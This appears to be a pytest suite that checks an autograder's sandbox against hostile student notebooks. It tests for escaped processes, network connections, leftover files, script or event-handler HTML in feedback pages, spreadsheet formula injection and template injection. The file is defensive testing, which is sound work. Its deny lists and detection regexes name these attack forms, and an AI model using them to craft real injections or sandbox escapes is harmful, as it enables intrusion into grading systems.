            "out": str(place / "out"),
            "submissions": str(place / "class"),
            "package": str(ROOT / "course"),
            "temporary": str(temporary),
            "home": os.path.expanduser("~root"),
            "secret": f"secret-{MARK}",
            "pid": os.getpid(),
            "sleeper": sleeper.pid,
            "host": socket.gethostname(),
            "kind": house.NAMESPACES if kind in ("", FORKED) else kind,
            **listeners.addresses,
        }
        _fill(place / "class", attacks, Maker(new_work), given)
        before = _digest(place / "class"), _digest(place / "course"), _mounts()
        begin = time.monotonic()
        run = subprocess.Popen(
            [
                sys.executable,
                "-c",
                START_APART if kind == FORKED else START,
                kind,
                str(place / "errors"),
                "grade",
                str(place / "class"),
                "-a",
                TOPIC,
                "-o",
                str(place / "out"),
                "--seed",
                "5",
                *options,
            ],
            cwd=place / "course",
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            errors="replace",
            env={
                **os.environ,
                "TMPDIR": str(temporary),
                "LD_LIBRARY_PATH": str(place / MARK),
                "PYTHONPATH": str(ROOT),
                "GRADERS_SECRET": f"secret-{MARK}",
                "OMP_NUM_THREADS": "1",
            },
        )
        said, _ = run.communicate(timeout=900)
        seconds = time.monotonic() - begin
        left = {
            "processes": _processes(str(place / MARK), MARK),
            "temporary files": [str(path) for path in temporary.iterdir()],
            "control groups": [str(p) for p in Path("/sys/fs/cgroup").rglob(f"course-grading-{run.pid}-*")],
            "mounts": sorted(_mounts() - before[2]),
            "sockets": re.findall(rf".*{MARK}bound", Path("/proc/net/unix").read_text()),
            "connections": listeners.heard(),
            "changed submissions": sorted(set(_digest(place / "class").items()) ^ set(before[0].items())),
            "changed course": sorted(set(_digest(place / "course").items()) ^ set(before[1].items())),
            "bystanders that were touched": [s for s in [_state(sleeper.pid)] if s != "S"],
            "files elsewhere": [
                str(path)
                for top in ("/tmp", "/dev/shm", "/var/tmp", str(ROOT / "course"), "/", sys.prefix)
                for path in Path(top).glob(f"{MARK}*")
            ],
        }
        sleeper.kill()
    rows = {}
    if (place / "out" / "grades.csv").exists():
        with open(place / "out" / "grades.csv", newline="", encoding="utf-8") as file:
            rows = {row["student"]: row for row in csv.DictReader(file, strict=True)}
    errors = dict(json.loads(line) for line in (place / "errors").read_text().splitlines())
    return Graded(place, run.returncode, said, rows, seconds, kind, left, errors)


FORKED = "forked from the grader to be"
NOTED = """
import json, sys
from course.grading.run import child
errors = open(sys.argv.pop(1), "a")
run = child.Child.run
def noted(self, cell, *arguments):
    told = run(self, cell, *arguments)
    errors.write(json.dumps([cell.source, told.failed[0].error if told.failed else ""]) + chr(10))
    errors.flush()
    return told
child.Child.run = noted
"""
START = f"""
import sys
from course.grading.sandbox import client
kind = sys.argv.pop(1)
if kind:
    client._walls = lambda exchange: [(kind, [])]
{NOTED}
from course.cli import main
sys.exit(main())
"""
# The grader's own process is another one, in which errors are noted once the server is forked.
ORIGIN = f"""
import sys
from course.grading import apart
begin = apart.grade_command
def grade_command(*given, **options):
    exec(NOTED, dict())
    return begin(*given, **options)
NOTED = {NOTED!r}
apart.grade_command = grade_command
sys.exit(apart.main(int(sys.argv.pop(2)), []))
"""
START_APART = f"""
import sys
from course import cli
from course.grading import apart
_, errors = sys.argv.pop(1), sys.argv.pop(1)
open(errors, "a").close()
apart.PROGRAM = ("-c", {ORIGIN!r}, errors)
sys.modules["__main__"].__file__ = cli.__file__
sys.exit(cli.main())
"""


def _fill(folder: Path, attacks: list[Attack], maker: Maker, given: dict) -> None:
    folder.mkdir()
    maker.solved().save(folder / f"{RIGHT}.ipynb")
    maker.solved(
        double="def double(x):\n    return x + 2",
        Scale=NOTHING_RIGHT["Scale"].replace("x - self.weight", "x * self.weight"),
    ).save(folder / f"{WRONG}.ipynb")
    prologue = PROLOGUE.format(given=json.dumps(given))
    for attack in attacks:
        if attack.place:
            attack.place(folder, attack.name, maker)
            continue
        cells = dict(attack.cells)
        if attack in PROBES:
            cells["double"] = prologue + cells["double"] + EPILOGUE
        maker.wrong(**cells).save(folder / f"{attack.name}.ipynb")


class Listeners:
    """Sockets on which nobody should knock."""

    def __init__(self, place: Path):
        self.tcp = socket.create_server(("0.0.0.0", 0))
        try:
            self.tcp6 = socket.create_server(("::1", 0), family=socket.AF_INET6)
        except OSError:  # a machine without it
            self.tcp6 = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.abstract, self.by_path, self.datagrams = (
            socket.socket(socket.AF_UNIX, kind) for kind in (socket.SOCK_STREAM, socket.SOCK_STREAM, socket.SOCK_DGRAM)
        )
        name = f"course-attack-{place.name}"
        self.abstract.bind(f"\0{name}")
        self.datagrams.bind(f"\0{name}d")
        self.by_path.bind(str(place / "socket"))
        (place / "socket").chmod(0o777)
        self.abstract.listen()
        self.by_path.listen()
        self.addresses = {
            "port": self.tcp.getsockname()[1],
            "port6": self.tcp6.getsockname()[1],
            "udp": self.udp.getsockname()[1],
            "lan": _own_address(),
            "abstract": name,
            "path": str(place / "socket"),
        }

    def heard(self) -> list[str]:
        found = []
        for name in ("tcp", "tcp6", "abstract", "by_path"):
            getattr(self, name).setblocking(False)
            try:
                getattr(self, name).accept()[0].close()
                found.append(name)
            except BlockingIOError:
                pass
        for name in ("udp", "datagrams"):
            getattr(self, name).setblocking(False)
            try:
                found.append(f"{name}: {getattr(self, name).recv(100)!r}")
            except BlockingIOError:
                pass
        return found

    def __enter__(self) -> "Listeners":
        return self

    def __exit__(self, *error) -> None:
        for line in (
            self.tcp,
            self.tcp6,
            self.udp,
            self.abstract,
            self.by_path,
            self.datagrams,
        ):
            line.close()


def _own_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        try:
            line.connect(("192.0.2.1", 9))  # sends nothing
            return line.getsockname()[0]
        except OSError:
            return "127.0.0.1"


def _digest(folder: Path) -> dict[str, str]:
    found = {}
    for path in folder.rglob("*"):
        if "__pycache__" in path.parts:
            continue
        status = path.lstat()
        content = str(path.readlink()) if path.is_symlink() else ""
        if stat.S_ISREG(status.st_mode):
            content = hashlib.sha256(path.read_bytes()).hexdigest() if status.st_size < 2**30 else str(status.st_size)
        found[str(path)] = f"{status.st_mode} {content}"
    return found


def _mounts() -> set[str]:
    return {line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()}


def _processes(*marks: str) -> list[str]:
    """Those with a mark in their environment or command, but for this one; they have a moment to be gone."""
    for _ in range(50):
        found = []
        for folder in Path("/proc").glob("[0-9]*"):
            try:
                text = (folder / "environ").read_bytes() + (folder / "cmdline").read_bytes()
            except OSError:
                continue
            if int(folder.name) != os.getpid() and any(mark.encode() in text for mark in marks):
                found.append(f"{folder.name} {text[-200:]!r}")
        if not found:
            return []
        time.sleep(0.1)
    return found


def _state(pid: int) -> str:
    return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]


@pytest.fixture(scope="module")
def graded(small_course, new_work):
    """The class with everything in it, behind the best walls that there are."""
    made = grade(
        [*CLASS, *PROBES],
        small_course,
        new_work,
        "--workers",
        "2",
        "--timeout",
        "30",
        "--memory",
        str(2**30),
    )
    yield made
    remove_folder(made.place)


@pytest.fixture(scope="module")
def short_of_time(small_course, new_work):
    made = grade(
        SHORT,
        small_course,
        new_work,
        "--workers",
        "6",
        "--timeout",
        "3",
        "--memory",
        str(2**29),
    )
    yield made
    remove_folder(made.place)


@pytest.fixture(scope="module", params=[pytest.param(house.NAMESPACES, marks=pytest.mark.long), house.LANDLOCK])
def weaker(request, small_course, new_work):
    """The probes, and the attacks on the scratch folder, behind the other kinds of walls."""
    if request.param == house.LANDLOCK and landlock.supported() < 6:
        pytest.skip("this kernel's Landlock does not keep signals in")
    made = grade(
        ON_ALL_WALLS,
        small_course,
        new_work,
        "--workers",
        "2",
        "--timeout",
        "10",
        "--memory",
        str(2**30),
        kind=request.param,
    )
    yield made
    remove_folder(made.place)


@pytest.fixture(scope="module")
def forked(small_course, new_work):
    options = ("--workers", "2", "--timeout", "30", "--memory", str(2**30))
    made = grade(ON_ALL_WALLS, small_course, new_work, *options, kind=FORKED)
    yield made
    remove_folder(made.place)


ENDINGS = (
    "kill everyone",
    "kill its",
    "stop who",
    "processes that go on",
    "folders",
    "links to",
    "too many",
    "a detached process",
    "os._exit",
    "os.abort",
    "close everything",
    "two megabytes",
)
ON_ALL_WALLS = [
    *PROBES,
    *(attack for attack in CLASS if attack.name.startswith(ENDINGS)),
]


def by_name(attacks: list[Attack]):
    return pytest.mark.parametrize("attack", attacks, ids=[attack.name for attack in attacks])


def check(graded: Graded, attack: Attack) -> None:
    names = {str(json.loads(path.read_bytes())["student"]) for path in (graded.out / "results").glob("*.json")}
    assert graded.status == 0, graded.said[-3000:]
    row = graded.rows.get(attack.name) or graded.rows.get(f"'{attack.name}")  # of a name that is no formula any more
    assert row is not None, f"no row for {attack.name}; there is {sorted(graded.rows)}"
    about = f"{attack.name}: {row}"
    assert attack.name in names or row["student"] in names, about
    assert float(row["points"]) == attack.points, about
    assert set(row["status"].split(",")) <= set(Status), about
    assert "no fault of the student" not in row["message"] and "the grader failed" not in row["message"], about
    assert re.search(attack.says, row["message"] + told_itself(graded, attack)), about


def told_itself(graded: Graded, attack: Attack) -> str:
    """What a probe found, in the words of its process."""
    own = [error for source, error in graded.errors.items() if attack in PROBES and attack.cells["double"] in source]
    return f" {own[-1]}" if own else ""


def check_the_class(graded: Graded, attacks: list[Attack]) -> None:
    """What holds of the class as a whole, whoever is in it."""
    assert graded.status == 0, graded.said[-3000:]
    assert "Traceback" not in graded.said, graded.said[-3000:]
    for student, wanted in HONEST.items():
        assert {key: graded.rows[student][key] for key in wanted} == wanted
    assert len(graded.rows) == len(attacks) + sum(name.startswith("an honest") for name in graded.rows)
    assert {what: found for what, found in graded.left.items() if found} == {}
    with sqlite3.connect(graded.out / "gradebook.db") as book:
        assert book.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL").fetchone() == (0,)
        scores = dict(
            book.execute(
                "SELECT student.id, total(grade.auto_score) FROM grade "
                "JOIN submitted_notebook ON submitted_notebook.id = grade.notebook_id "
                "JOIN submitted_assignment ON submitted_assignment.id = submitted_notebook.assignment_id "
                "JOIN student ON student.id = submitted_assignment.student_id GROUP BY student.id"
            )
        )
    assert scores[RIGHT] == 6.5 and scores[WRONG] == 1.5
    assert sum(scores.values()) == pytest.approx(sum(float(row["points"]) for row in graded.rows.values()))
    assert sorted(os.listdir(graded.out)) == sorted(
        {
            ".lock",
            "autograded",
            "canvas.csv",
            "feedback",
            "gradebook.db",
            "grades.csv",
            "groups.json",
            "moodle.csv",
            "report.html",
            "results",
            "run.json",
        }
        | ({"similar"} & set(os.listdir(graded.out)))
    )
    pages = {path.stem for path in (graded.out / "feedback").iterdir()}
    assert pages == {path.stem for path in (graded.out / "results").iterdir()} and len(pages) == len(graded.rows)


@by_name([*CLASS, *PROBES])
def test_attack(graded, attack):
    check(graded, attack)


def test_the_class_of_attackers_is_graded_as_if_they_were_not_there(graded):
    check_the_class(graded, [*CLASS, *PROBES])


@by_name(ON_ALL_WALLS)
def test_attack_where_the_server_is_forked_from_the_grader_to_be(forked, attack):
    check(forked, attack)


def test_where_the_server_is_forked_nothing_is_left_and_nothing_changed(forked):
    check_the_class(forked, ON_ALL_WALLS)


@by_name(ON_ALL_WALLS)
def test_attack_on_other_walls(weaker, attack):
    check(weaker, attack)


def test_behind_other_walls_nothing_is_left_and_nothing_changed(weaker):
    check_the_class(weaker, ON_ALL_WALLS)


@pytest.mark.long
def test_without_walls_the_probes_reach_what_they_are_after(small_course, new_work):
    """So it is the walls that keep them from it."""
    harmless = (
        "read the answers",
        "find the answers",
        "look through",
        "search frames",
        "send something",
    )
    probes = [attack for attack in PROBES if attack.name.startswith(harmless)]
    made = grade(
        probes,
        small_course,
        new_work,
        "--workers",
        "2",
        "--sandbox",
        "none",
        kind="none",
    )
    try:
        for attack in probes:
            assert re.search(r"reached \['", told_itself(made, attack)), attack.name
    finally:
        remove_folder(made.place)


@by_name(SHORT)
def test_attack_on_time_and_memory(short_of_time, attack):
    check(short_of_time, attack)


def test_what_hangs_and_swells_costs_nobody_else_anything(short_of_time):
    check_the_class(short_of_time, SHORT)


@pytest.mark.parametrize("user", [os.getuid(), house.UNPRIVILEGED])
def test_a_folder_is_removed_whatever_is_in_it(user):
    if os.getuid() not in (0, user):
        pytest.skip("only root can be somebody else")
    place = Path(tempfile.mkdtemp(prefix="attacks-"))
    kept = place.with_name(f"{place.name}-kept")
    kept.mkdir()
    (kept / "file").write_text("x")
    os.chown(place, user, -1)
    if os.fork() == 0:  # whoever is somebody else stays so
        try:
            os.setresuid(user, user, user)
            os.chdir(place)
            os.symlink(kept, "link")
            os.mkfifo("pipe")
            for i in range(1100):
                os.mkdir("d")
                if i % 100 == 0:
                    os.symlink(kept, f"d/l{i}")
                os.chdir("d")
            os.mkdir("closed", 0)
            for _ in range(1100):
                os.chdir("..")
            os.chmod("d", 0)
            remove_folder(place)
        finally:
            os._exit(0)
    os.wait()
    assert not place.exists() and (kept / "file").read_text() == "x"
    shutil.rmtree(kept)


# -- pages


class Elements(html.parser.HTMLParser):
    def __init__(self, page: str):
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def test_no_page_holds_anything_that_runs_or_loads(graded):
    pages = [
        *(graded.out / "feedback").iterdir(),
        graded.out / "report.html",
        *graded.out.glob("similar/*.html"),
    ]
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "default-src 'none'" in text
        for tag, attributes in Elements(text).found:
            assert tag not in (
                "script",
                "iframe",
                "object",
                "embed",
                "form",
                "base",
                "link",
                "svg",
                "button",
            ), (page, tag)
            assert not any(name.startswith("on") for name in attributes), (
                page,
                attributes,
            )
            assert attributes.get("http-equiv", "Content-Security-Policy") == "Content-Security-Policy"
            for name in ("href", "src"):
                value = (attributes.get(name) or "").strip().lower()
                assert not re.match(r"[\x00-\x20]*(java|vb)?script:|data:(?!image/png;base64,)", value), (page, value)
            assert (attributes.get("src") or "data:").startswith("data:"), (
                page,
                attributes,
            )


def test_templates_in_student_text_stay_text(graded):
    page = graded.page("a page that runs something")
    assert page.count("{{ 7 * 7 }}") >= 2 and "subclasses" in page and "&lt;class" not in page
    assert ">49<" not in page and " 49 " not in page


def test_tables_hold_no_formula(graded):
    for name in ("grades.csv", "canvas.csv", "moodle.csv"):
        with open(graded.out / name, newline="", encoding="utf-8-sig") as file:
            for row in csv.reader(file, strict=True):
                for value in row:
                    assert not re.match(r"[=+@\t\r]|-(?!\d)", value) and value.isprintable(), (name, value)


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
def test_in_a_browser_no_script_runs_and_no_request_leaves(graded):
    playwright = pytest.importorskip("playwright.sync_api")
    flags = [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-background-networking",
    ]
    hostile = [a.name for a in CLASS if "page" in a.name or "<" in a.name or "formula" in a.name]
    names = {json.loads(p.read_bytes())["student"]: p.stem for p in (graded.out / "results").glob("*.json")}
    pages = [graded.out / "feedback" / f"{names[name]}.html" for name in hostile] + [graded.out / "report.html"]
    requests: list[str] = []
    with playwright.sync_playwright() as running:
        browser = running.chromium.launch(executable_path=CHROMIUM, headless=True, args=flags)
        page = browser.new_page()
        page.on("request", lambda request: requests.append(request.url))
        page.on(
            "dialog",
            lambda dialog: (
                requests.append(f"dialog {dialog.message}"),
                dialog.dismiss(),
            ),
        )
        for path in pages:
            requests.clear()
            page.goto(path.as_uri())
            for link in page.query_selector_all("main a[href]")[:20]:
                address = link.evaluate("a => a.href")
                if not address.startswith(("file:", "http")):
                    link.click(timeout=1000, no_wait_after=True)
            assert page.title() != "attacked"
            assert [url for url in requests if not url.startswith(("file:", "data:image/png"))] == [], path
            assert page.evaluate("document.querySelectorAll('script, iframe, svg, form, img[src^=http]').length") == 0
        browser.close()
